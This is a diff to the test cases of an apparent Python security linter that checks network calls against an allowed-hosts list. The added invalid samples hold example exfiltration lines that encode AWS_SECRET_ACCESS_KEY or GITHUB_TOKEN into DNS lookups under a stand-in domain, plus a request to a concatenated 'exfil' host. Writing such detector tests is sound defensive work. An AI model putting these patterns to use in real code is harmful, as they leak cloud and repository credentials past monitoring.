@@ -567,6 +567,11 @@ class NetworkChecker(PythonChecker):
               'INTERNAL_IPS = [ip[:-1] + "1" for ip in ips]\n', "BDL404"),
         Valid('import requests\nHOST = "api." + "example.com"\ndef f():\n    return requests.get(f"https://{HOST}/v1")\n',
               "BDL403"),
+        Valid('import requests\ndef users():\n    return requests.get("https://api.mycorp.example/v1/users", timeout=5)\n',
+              "BDL406", config=(("allowed-hosts", ["api.mycorp.example"]),)),
+        Valid('import requests\ndef users(region):\n'
+              '    return requests.get(f"https://{region}.mycorp.example/v1/users", timeout=5)\n', "BDL406",
+              config=(("allowed-hosts", ["*.mycorp.example"]),)),
     ]
     INVALID = [
         # BDL401: module level, class body, decorator, default argument, through a local function
@@ -682,6 +687,15 @@ class NetworkChecker(PythonChecker):
                 '    subprocess.Popen([DEST, "--daemon"])\n', "BDL405", 6),
         # BDL406: allowed-hosts configured
         Invalid('import requests\ndef f():\n    requests.get("https://unknown.example/api")\n', "BDL406", 3,
+                config=(("allowed-hosts", ["api.mycorp.example"]),)),
+        # the secret encoded into a DNS label, or formatted into the host first
+        Invalid('import base64, os, socket\ndef f():\n'
+                '    label = base64.b32encode(os.environ["AWS_SECRET_ACCESS_KEY"].encode()).decode().strip("=").lower()\n'
+                '    socket.getaddrinfo(label[:60] + ".t.example", 53)\n', "BDL404", 4),
+        Invalid('import os, socket\ndef f():\n    host = "%s.t.example" % os.environ["GITHUB_TOKEN"]\n'
+                '    socket.gethostbyname(host)\n', "BDL404", 4),
+        # a host outside allowed-hosts, assembled so that no literal names it
+        Invalid('import requests\ndef f():\n    return requests.get("https://" + "exfil" + ".example/x")\n', "BDL406", 3,
                 config=(("allowed-hosts", ["api.mycorp.example"]),)),
     ]
 
